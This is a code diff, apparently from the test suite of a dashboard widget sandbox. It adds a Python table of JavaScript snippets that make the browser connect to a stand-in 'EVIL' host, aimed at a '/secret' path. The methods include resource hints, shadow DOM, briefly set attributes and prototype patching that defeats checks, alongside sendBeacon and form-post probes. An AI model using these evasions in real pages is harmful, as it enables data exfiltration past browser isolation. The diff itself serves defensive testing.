@@ -43,11 +43,9 @@ const TRIES = {
 };
 export async function mount(element) {
   navigator.sendBeacon(EVIL + "/beacon", "x");
-  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload",
-                     "stylesheet", "icon", "manifest", "prerender"]) {
-    const link = Object.assign(document.createElement("link"), { rel, href: EVIL + "/" + rel });
-    if (rel === "preload") link.as = "image";
-    document.head.append(link);
+  for (const rel of ["stylesheet", "icon", "manifest"]) {
+    document.head.append(
+      Object.assign(document.createElement("link"), { rel, href: EVIL + "/" + rel }));
   }
   const form = document.createElement("form");
   Object.assign(form, { action: EVIL + "/form", method: "post" });
@@ -155,3 +153,34 @@ CALM = {
     "foreign": "This module is made for another kind of dashboard: it does not export mount().",
     "throws": "The widget could not start. It says: <b>No</b> place to draw.",
 }
+
+# Every way to let the browser connect without a request of the widget.
+HINTS = {
+    **{
+        rel: f"place.append(make('link', {{ rel: '{rel}', href: EVIL, as: 'image' }}))"
+        for rel in (
+            *("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender"),
+        )
+    },
+    "upper-case": "place.append(make('link', { rel: 'PreConnect', href: EVIL }))",
+    "html": "place.innerHTML = `<p><link rel=preconnect href=${EVIL}></p>`",
+    "in-head": "document.head.append(make('link', { rel: 'icon preconnect', href: EVIL }))",
+    "removed": "const it = make('link', { rel: 'preconnect', href: EVIL }); "
+    "place.append(it); it.remove()",
+    "later": "const it = make('link', { href: EVIL }); place.append(it); "
+    "setTimeout(() => it.relList.add('preconnect'), 50)",
+    "for-a-moment": "const it = make('link', { href: EVIL }); place.append(it); "
+    "it.rel = 'preconnect'; it.removeAttribute('rel')",
+    "shadow": "place.appendChild(make('div')).attachShadow({ mode: 'closed' })"
+    ".append(make('link', { rel: 'preconnect', href: EVIL }))",
+    "patched": "Array.prototype[Symbol.iterator] = function* () {}; "
+    "Element.prototype.matches = () => false; "
+    ""
+    "const host = place.appendChild(make('div')).attachShadow({ mode: 'open' }); "
+    "const it = make('link', { href: EVIL }); host.append(it); it.rel = 'preconnect'",
+}
+HINT = """
+const make = (tag, more) => Object.assign(document.createElement(tag), more);
+const EVIL = "{evil}/secret";
+export function mount(place) { %s; }
+"""
